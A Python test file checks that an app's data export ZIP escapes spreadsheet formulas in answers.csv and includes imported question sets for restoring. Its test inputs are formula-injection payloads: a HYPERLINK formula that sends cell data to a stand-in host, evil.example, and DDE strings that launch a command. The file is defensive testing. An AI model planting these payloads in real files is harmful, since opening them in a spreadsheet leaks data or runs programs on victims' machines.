"""The export ZIP as a spreadsheet user and a restoring user meet it: answers.csv runs no formula
when opened in a spreadsheet, and the imported question sets are in the ZIP, ready to import again."""
from __future__ import annotations

import csv
import io
import zipfile

import storage
from coach import question_sets

FORMULAS = ["=HYPERLINK(\"http://evil.example?d=\"&A1,\"Click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
            "-2+3", "\t=1+1", "\r=1+1"]


def test_answers_csv_neutralises_spreadsheet_formulas_in_every_cell(data_dir, me):
    target = storage.create_target("=cmd|' /C calc'!A0", "@SUM(A1:A9)", owner=me)
    session = storage.start_session(target.id, "realistic", owner=me)
    for n, formula in enumerate(FORMULAS):
        storage.add_answer(session.id, {"id": f"q-{n}", "text": formula, "category": "-motivation"},
                           typed_text="typed", owner=me)
    path = storage.export_all(data_dir / "export.zip", owner=me)

    with zipfile.ZipFile(path) as archive:
        rows = list(csv.DictReader(io.StringIO(archive.read("answers.csv").decode())))
    assert [r["question"] for r in rows] == ["'" + f for f in FORMULAS]
    for row in rows:
        assert row["target"] == "'@SUM(A1:A9) at =cmd|' /C calc'!A0"
        assert row["category"] == "'-motivation"
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert rows[0]["session_id"] == str(session.id)  # plain values are untouched


def test_the_export_holds_the_imported_question_sets(data_dir, tmp_path, me):
    upload = tmp_path / "mine.csv"
    upload.write_text("id,text,category\nmy-001,Why this team?,motivation\nmy-002,Why now?,motivation\n",
                      encoding="utf-8")
    question_sets.import_question_set(upload)
    path = storage.export_all(tmp_path, owner=me)

    with zipfile.ZipFile(path) as archive:
        sets = [n for n in archive.namelist() if n.startswith("questions/")]
        assert sets == ["questions/set-001.yaml"]
        restored = tmp_path / "restored.yaml"
        restored.write_bytes(archive.read(sets[0]))
    from question_bank import import_questions

    assert [q.text for q in import_questions(restored)] == ["Why this team?", "Why now?"]
